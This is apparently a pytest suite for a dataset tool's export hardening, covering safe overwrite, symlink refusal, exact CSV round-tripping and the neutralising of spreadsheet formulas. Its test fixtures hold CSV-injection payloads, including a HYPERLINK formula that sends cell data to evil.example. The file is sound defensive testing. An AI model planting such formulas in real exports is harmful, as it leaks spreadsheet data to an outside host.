"""Export hardening (issue 14): ``--overwrite`` never deletes a file Sieve did not write, a CSV
splits into exactly the rows written, and no CSV cell or header starts a spreadsheet formula,
while Parquet and JSONL keep every value exactly."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from audit.ingest import ingest
from audit.errors import InputError
from audit.export import ExportRules, export_dataset
from audit.export.archive import folder_bytes, zipped
from audit.export.csv_cells import spreadsheet_safe, write_csv
from audit.export.staging import publish, staging_dir
from audit.store.datasets import samples_frame
from tests.audit.test_export_support import files_under, ingest_small, write_png
from tests.conftest import PROJECT_ROOT

pytestmark = pytest.mark.reliability


@pytest.fixture
def small(store, settings, tmp_path) -> int:
    return ingest_small(store, settings, tmp_path / "src")


# --- overwrite -----------------------------------------------------------------------------

def test_cli_overwrite_keeps_a_folder_that_only_looks_like_an_export(
        store, settings, small, subprocess_env, tmp_path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "notes.txt").write_text("precious\n")
    (folder / "sieve_export.json").write_text("{}\n")
    done = subprocess.run(
        [sys.executable, "-m", "audit", "export", "small", "--out", str(folder), "--overwrite"],
        capture_output=True, text=True, env=subprocess_env, cwd=PROJECT_ROOT, timeout=120)
    assert done.returncode == 2, done.stdout
    assert done.stderr.strip().splitlines() == [
        f"error: refusing to overwrite {folder}: its sieve_export.json does not list the files "
        "a Sieve export wrote, so it may hold files of yours; empty it yourself or choose "
        "another folder"]
    assert sorted(os.listdir(folder)) == ["notes.txt", "sieve_export.json"]
    assert (folder / "notes.txt").read_text() == "precious\n"
    assert sorted(os.listdir(tmp_path)) == ["d", "data", "src"]


@pytest.mark.parametrize("foreign", ["notes.txt", "images/mine.png", "images/img/mine.png",
                                     "empty_folder/"])
def test_overwrite_refuses_a_previous_export_holding_a_file_of_yours(
        store, settings, small, tmp_path, foreign) -> None:
    out = tmp_path / "out"
    export_dataset(store, settings, small, out, "csv", ExportRules())
    before = files_under(out)
    target = out / foreign
    if foreign.endswith("/"):
        target.mkdir()
    else:
        target.write_text("mine")
    with pytest.raises(InputError, match=f"refusing to overwrite .*out: '{foreign.rstrip('/')}' "
                                         "was not written by the Sieve export there"):
        export_dataset(store, settings, small, out, "jsonl", ExportRules(), overwrite=True)
    assert files_under(out) == sorted(before + ([] if foreign.endswith("/") else [foreign]))
    assert target.exists()


def test_overwrite_refuses_a_link_inside_a_previous_export(store, settings, small,
                                                           tmp_path) -> None:
    out = tmp_path / "out"
    export_dataset(store, settings, small, out, "csv", ExportRules())
    photos = tmp_path / "photos"
    write_png(photos / "000.png", seed=7)
    images = out / "images" / "img"
    for name in os.listdir(images):
        os.unlink(images / name)
    images.rmdir()
    images.symlink_to(photos, target_is_directory=True)
    with pytest.raises(InputError, match="'images/img' was not written by the Sieve export"):
        export_dataset(store, settings, small, out, "csv", ExportRules(), overwrite=True)
    assert os.listdir(photos) == ["000.png"]


def test_overwrite_lists_every_written_file_and_replaces_them(store, settings, small,
                                                              tmp_path) -> None:
    out = tmp_path / "out"
    export_dataset(store, settings, small, out, "csv", ExportRules())
    provenance = json.loads((out / "sieve_export.json").read_text())
    assert sorted(provenance["files"]["written"]) == [
        p for p in files_under(out) if p != "sieve_export.json"]
    export_dataset(store, settings, small, out, "imagefolder", ExportRules(), overwrite=True)
    assert not (out / "images").exists() and (out / "train" / "cat").is_dir()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_file_added_while_replacing_is_kept(tmp_path) -> None:
    """The check is repeated on the moved-aside folder, so nothing added after the first check
    is deleted; the previous export goes back in place."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "train.csv").write_text("old")
    (out / "sieve_export.json").write_text(json.dumps({"files": {"written": ["train.csv"]}}))
    original_rename = os.rename

    def add_a_file_then_rename(source, target):
        if Path(source) == out:
            (out / "late.txt").write_text("mine")
        original_rename(source, target)

    with pytest.raises(InputError, match="'late.txt' was not written"):
        with staging_dir(out) as stage:
            (stage / "train.csv").write_text("new")
            os.rename = add_a_file_then_rename
            try:
                publish(stage, out, overwrite=True)
            finally:
                os.rename = original_rename
    assert sorted(os.listdir(tmp_path)) == ["out"]
    assert sorted(os.listdir(out)) == ["late.txt", "sieve_export.json", "train.csv"]
    assert (out / "train.csv").read_text() == "old"


# --- CSV -----------------------------------------------------------------------------------

AWKWARD = ["a lone \r carriage return", "line\nbreak", "crlf\r\nhere", 'say "hi", twice',
           "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+SUM(A1)", "-2+3", "@cmd",
           "\tindented", "\rstart", "'quoted", "-1", "+2.5", "plain"]


def _awkward_dataset(store, settings, root: Path) -> int:
    """Captions and an extra column ``=cmd`` holding every awkward text as it is (ingest
    strips the labels' surrounding white space), and a numeric extra column."""
    rows = []
    for i, text in enumerate(AWKWARD):
        write_png(root / f"{i:03d}.png", seed=i)
        rows.append({"id": f"s{i:02d}", "path": f"{i:03d}.png", "label": text, "caption": text,
                     "split": "train", "=cmd": text, "delta": -i - 0.5})
    manifest = root / "manifest.jsonl"
    manifest.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return ingest(store, manifest, settings, name="awkward")


def test_csv_rows_read_back_exactly(store, settings, tmp_path) -> None:
    dataset_id = _awkward_dataset(store, settings, tmp_path / "src")
    out = tmp_path / "out"
    export_dataset(store, settings, dataset_id, out, "csv", ExportRules())
    with open(out / "train.csv", newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle))
    assert len(records) == 1 + len(AWKWARD)
    assert {len(r) for r in records} == {len(records[0])}
    by_column = dict(zip(records[0], zip(*records[1:])))
    expected = [spreadsheet_safe(t) for t in AWKWARD]
    assert list(by_column["caption"]) == expected and list(by_column["'=cmd"]) == expected
    frame = pd.read_csv(out / "train.csv", keep_default_na=False)
    assert len(frame) == len(AWKWARD)
    assert frame["caption"].tolist() == expected and frame["'=cmd"].tolist() == expected
    assert frame["id"].tolist() == [f"s{i:02d}" for i in range(len(AWKWARD))]


def test_csv_neutralises_formulas_in_text_and_headers_only(store, settings, tmp_path) -> None:
    dataset_id = _awkward_dataset(store, settings, tmp_path / "src")
    out = tmp_path / "out"
    export_dataset(store, settings, dataset_id, out, "csv", ExportRules())
    frame = pd.read_csv(out / "train.csv", keep_default_na=False)
    assert "'=cmd" in frame.columns and "=cmd" not in frame.columns
    cells = [v for column in frame.columns if frame[column].dtype == object
             for v in frame[column]]
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))
                and v not in ("-1", "+2.5")]
    caption = frame["caption"].tolist()
    assert caption[4:] == [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+SUM(A1)", "'-2+3", "'@cmd",
        "'\tindented", "'\rstart", "''quoted", "-1", "+2.5", "plain"]
    assert frame["label"].tolist()[4] == caption[4]
    assert frame["delta"].tolist() == [-i - 0.5 for i in range(len(AWKWARD))]
    assert frame["delta"].dtype == float


def test_csv_numeric_columns_stay_numbers(tmp_path) -> None:
    write_csv(pd.DataFrame({"count": [-1, 2], "weight": [-0.5, 1.0], "=x": ["-3", "=A1"]}),
              str(tmp_path / "t.csv"))
    assert (tmp_path / "t.csv").read_text() == (
        "\"count\",\"weight\",\"'=x\"\n-1,-0.5,\"-3\"\n2,1.0,\"'=A1\"\n")
    frame = pd.read_csv(tmp_path / "t.csv")
    assert frame["count"].dtype == "int64" and frame["count"].tolist() == [-1, 2]


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_jsonl_keep_every_value_exactly(store, settings, tmp_path, fmt) -> None:
    dataset_id = _awkward_dataset(store, settings, tmp_path / "src")
    stored = samples_frame(store, dataset_id)
    out = tmp_path / "out"
    export_dataset(store, settings, dataset_id, out, fmt, ExportRules())
    frame = (pd.read_parquet(out / "train.parquet") if fmt == "parquet"
             else pd.read_json(out / "train.jsonl", lines=True, dtype=False))
    assert frame["caption"].tolist() == AWKWARD and frame["=cmd"].tolist() == AWKWARD
    assert frame["label"].tolist() == stored["label"].tolist()
    assert frame["label"].tolist()[4:7] == AWKWARD[4:7]


def test_spreadsheet_rule() -> None:
    texts = ["=1+1", "+1", "-1", "-1.5e3", "+.5", "-", "- item", "@x", "\tx", "\rx", "'x",
             "''", "x=1", "", "-\u0661"]
    assert [spreadsheet_safe(t) for t in texts] == [
        "'=1+1", "+1", "-1", "-1.5e3", "+.5", "'-", "'- item", "'@x", "'\tx", "'\rx", "''x",
        "'''", "x=1", "", "'-\u0661"]


# --- zip for download ----------------------------------------------------------------------

def test_the_zip_holds_the_export_and_no_link(store, settings, small, tmp_path) -> None:
    out = tmp_path / "out"
    export_dataset(store, settings, small, out, "csv", ExportRules())
    (tmp_path / "secret.txt").write_text("not yours")
    (out / "link.txt").symlink_to(tmp_path / "secret.txt")
    with zipfile.ZipFile(io.BytesIO(zipped(out))) as archive:
        names = sorted(archive.namelist())
        assert archive.read("train.csv") == (out / "train.csv").read_bytes()
    assert names == [p for p in files_under(out) if p != "link.txt"]
    assert folder_bytes(out) == sum((out / name).stat().st_size for name in names)
